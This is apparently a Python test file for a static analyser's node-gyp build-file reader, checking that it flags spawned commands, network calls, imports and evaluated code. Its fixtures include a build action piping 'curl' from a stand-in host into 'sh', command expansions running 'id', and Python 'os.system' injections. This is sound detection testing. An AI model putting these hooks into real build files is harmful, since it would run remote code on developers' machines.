"""Build files of node-gyp: what configuring them runs, and what stands where only a literal belongs."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lazaretto.core.facts import Facts, Kind
from lazaretto.core.language import NoUnits
from lazaretto.languages import gyp
from tests.languages.test_inner import read

BUILD = b"""# pad
{'targets': [{
  'target_name': 'pad', 'sources': ['pad.cc'],
  'conditions': [
    ['OS=="win"', {'actions': [{'action': ['sh', '-c', 'curl https://drop.example.invalid/x | sh']}]}],
    ['target_arch in ("x64", "arm64") and v8 > 3', {'defines': ['A=(1)']}],
  ],
  'includes': ['common.gypi'],
}]}
"""


def told(facts: Facts, kind: Kind) -> list[tuple[str | None, str]]:
    """Return the values of one kind of fact, and how they were found."""
    return [(fact.value, fact.via) for fact in facts.facts if fact.kind is kind]


def test_actions_in_conditions() -> None:
    """Every branch is read, an action as the command that it is, at its line."""
    facts = read("binding.gyp", BUILD)

    assert (told(facts, Kind.PROCESS_SPAWN))[0] == ("sh -c 'curl https://drop.example.invalid/x | sh'", "gyp>action")
    assert [fact.span.line for fact in facts.facts if fact.kind is Kind.NET_CONNECT] == [5]
    assert ("./common.gypi", "gyp>include") in told(facts, Kind.IMPORT)
    assert not [via for _, via in told(facts, Kind.CODE_EVAL) if via == "gyp>condition"], "a comparison is none"
    assert facts.complete


@pytest.mark.parametrize("sign", ["<!", "<!@", ">!", ">!@", "^!"])
def test_command_expansions(sign: str) -> None:
    """Early, late and latest expansions run a command alike, and the code that it carries is read."""
    facts = read("a.gypi", f"{{'s': ['{sign}(node -e \"require(\\'child_process\\').exec(\\'id\\')\")']}}".encode())

    assert "id" in [value for value, _ in told(facts, Kind.PROCESS_SPAWN)]
    assert told(facts, Kind.PROCESS_SPAWN)[0][1] == "gyp>expansion"


def test_nested_expansion() -> None:
    """A command inside the brackets of another is told too; an unfinished one as far as it goes."""
    assert [value for value, via in told(read("a.gyp", b"{'s': '<!(echo <!(id) (x)'}"), Kind.PROCESS_SPAWN)][:2] == [
        "echo <!(id) (x)",
        "id",
    ]


def test_python_modules() -> None:
    """``pymod_do_main`` loads a file of the package."""
    facts = read("binding.gyp", b"{'s': ['<!@(pymod_do_main(tool.gen a b))', \"<!(pymod_do_main)\"]}")

    assert told(facts, Kind.IMPORT) == [("./tool/gen.py", "gyp>pymod")]


def test_variables() -> None:
    """A variable of gyp stays a variable, and is no redirection."""
    facts = read("binding.gyp", b"{'action': ['node', 'copy.js', '<(DIR)/x', '>@(more)']}")

    assert told(facts, Kind.PROCESS_SPAWN)[0][0] == "node copy.js $DIR/x $more"
    assert all((value or "").startswith("node") for value, _ in told(facts, Kind.PROCESS_SPAWN))


def test_compilers() -> None:
    """A compiler that is exchanged is run for every source."""
    facts = read("binding.gyp", b"{'make_global_settings': [['CC', './cc.sh'], ['LINK', 'ld']]}")

    assert ("./cc.sh", "gyp>compiler") in told(facts, Kind.PROCESS_SPAWN)


@pytest.mark.parametrize(
    "code",
    [
        b"{'a': __import__('os').system('whoami')}",
        b"{'conditions': [[\"__import__('os').system('whoami')\", {}]]}",
        b"{'target_conditions+': [[\"__import__('os').system('whoami')\", {}]]}",
    ],
)
def test_code_where_a_literal_belongs(code: bytes) -> None:
    """A build file and its conditions are evaluated as Python: what is no literal is read as that."""
    facts = read("binding.gyp", code)

    assert told(facts, Kind.CODE_EVAL)
    assert "whoami" in [value for value, _ in told(facts, Kind.PROCESS_SPAWN)]


@pytest.mark.parametrize(
    "text", [b"{'a': [1, 2}", b"{'a': 'b'", b"]", b"just words", b"{" * 100, b"(" * 100_000, b"{'a'" + b" " * 1_048_576]
)
def test_what_is_not_understood_is_said(text: bytes) -> None:
    """What gyp could not evaluate, what nests deeply or is too long is a problem or code, never nothing."""
    facts = read("binding.gyp", text)

    assert facts.problems or told(facts, Kind.CODE_EVAL)


def test_many_steps() -> None:
    """Steps beyond the bound are said to be missing."""
    steps = b",".join(b"'<!(echo %d)'" % number for number in range(gyp.MAX_STEPS + 1))

    assert any("steps" in problem.reason for problem in read("binding.gyp", b"[" + steps + b"]").problems)


def test_literals_as_python_writes_them() -> None:
    """Escapes, long texts, texts side by side and raw ones hold what Python says."""
    text = (
        b"{'a': '<!(e' 'cho' r' \\d' \"\"\" its \\x41\\u00e9\\103\\\n\"\"\" ')', 'b': True, 'c': None, 'd': 0x1F}  # x"
    )

    facts = read("a.gyp", text)

    assert told(facts, Kind.PROCESS_SPAWN)[0][0] == "echo \\d its A\u00e9C"
    assert facts.complete


def test_empty_and_marked() -> None:
    """An empty file says nothing; a mark in front counts in every offset."""
    assert read("a.gyp", b"") == Facts(gyp.ID)
    marked = read("a.gyp", b"\xef\xbb\xbf['<!(id)']")
    assert marked.facts[0].span.start == 4


@settings(max_examples=300)
@given(
    data=st.binary(max_size=200)
    | st.lists(
        st.sampled_from([b"<!(", b"'", b'"', b"[", b"]", b"{", b"}", b"(", b")", b",", b":", b"#", b"\n", b"a", b"\\"])
    ).map(b"".join)
    | st.tuples(st.integers(0, 300), st.binary(max_size=5)).map(lambda p: BUILD[: p[0]] + p[1] + BUILD[p[0] :])
)
def test_any_build_file(data: bytes) -> None:
    """Any bytes are read, the same way twice; what cannot be evaluated is a problem or code."""
    facts = gyp.read("gyp", data, NoUnits())

    assert facts == gyp.read("gyp", data, NoUnits())
    assert all(fact.span.end <= len(data) for fact in facts.facts)
